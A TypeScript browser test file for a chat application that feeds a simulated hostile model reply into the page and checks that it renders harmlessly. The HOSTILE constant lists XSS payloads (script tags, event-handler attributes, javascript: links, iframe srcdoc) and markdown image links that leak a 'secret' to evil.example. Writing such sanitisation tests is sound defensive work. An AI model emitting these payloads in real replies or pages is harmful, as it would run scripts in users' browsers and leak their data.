import { expect, test } from "vitest";
import { setStage } from "./stage.ts";
import { answers, say, signUp, wholeAnswer } from "./visitor.ts";

/** A model that turned against its reader, or repeats a page that did. */
const HOSTILE = [
  "Begin.",
  "<script>window.__owned = 1</script>",
  '<img src=x onerror="window.__owned = 2"> <svg onload="window.__owned = 3"></svg>',
  '<iframe srcdoc="<script>parent.__owned = 4</script>"></iframe>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<style>body { display: none }</style> <a href="javascript:window.__owned=5">raw</a>',
  "[click](javascript:window.__owned=6) [data](data:text/html,<script>1</script>) [here](/api/auth/sign-out)",
  "[web](https://example.com/page) <mailto:a@example.com> <javascript:window.__owned=7>",
  "![leak](https://evil.example/pixel.png?secret=1) ![leak](//evil.example/p.png) ![out](/api/auth/sign-out)",
  "![ref][r] and [again][j]",
  "[r]: https://evil.example/ref.png",
  '[j]: javascript:window.__owned=8 "title"',
  "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
  "```html\n<script>window.__owned = 9</script>\n```",
  '```mermaid\ngraph TD; A-->B; click A href "javascript:window.__owned=10"\n```',
  "End.",
].join("\n\n");

const stage = setStage();

test("a hostile answer runs nothing, loads nothing, and links only to the web and to mail", async () => {
  const { page, problems } = await stage.visit();
  await signUp(page);
  // Slow enough to be drawn while every construct is still half written.
  stage.models.next({ reply: HOSTILE, delayMs: 15 });
  await say(page, "what does that page say?");
  await answers(page).getByText("End.").waitFor();
  await wholeAnswer(page);
  for (const pass of ["live", "replayed"]) {
    const prose = answers(page).locator(".prose");
    const seen = await prose.evaluate((node) => ({
      forbidden: node.querySelectorAll("script, iframe, form, input, style, object, embed, svg:not(.lucide)").length,
      handlers: [...node.querySelectorAll("*")].filter((element) =>
        element.getAttributeNames().some((name: string) => name.startsWith("on")),
      ).length,
      images: [...node.querySelectorAll("img")].map((image) => image.getAttribute("src")?.slice(0, 15)),
      links: [...node.querySelectorAll("a")].map((link) =>
        [link.getAttribute("href"), link.rel, link.target].join(" "),
      ),
    }));
    expect(seen, pass).toEqual({
      forbidden: 0,
      handlers: 0,
      images: ["data:image/png;"],
      links: [
        "https://example.com/page noopener noreferrer _blank",
        "mailto:a@example.com noopener noreferrer _blank",
        "https://evil.example/pixel.png?secret=1 noopener noreferrer _blank",
        "https://evil.example/ref.png noopener noreferrer _blank",
      ],
    });
    expect(await page.evaluate("window.__owned"), pass).toBeUndefined();
    expect(await prose.textContent(), pass).toContain("<script>window.__owned = 1</script>");
    await page.reload();
    await wholeAnswer(page);
  }
  expect(problems).toEqual([]);
});

test("a hostile title and a hostile message stay text", async () => {
  const { page, problems } = await stage.visit();
  await signUp(page, '<img src=x onerror="window.__owned=1">');
  await say(page, '<img src=x onerror="window.__owned=2"> **not bold** [x](javascript:window.__owned=3)');
  await wholeAnswer(page);
  const question = page.getByRole("article", { name: "Your message" });
  expect(await question.locator("img, strong, a").count()).toBe(0);
  expect(await question.textContent()).toContain("**not bold**");
  expect(await page.evaluate("window.__owned")).toBeUndefined();
  expect(problems).toEqual([]);
});
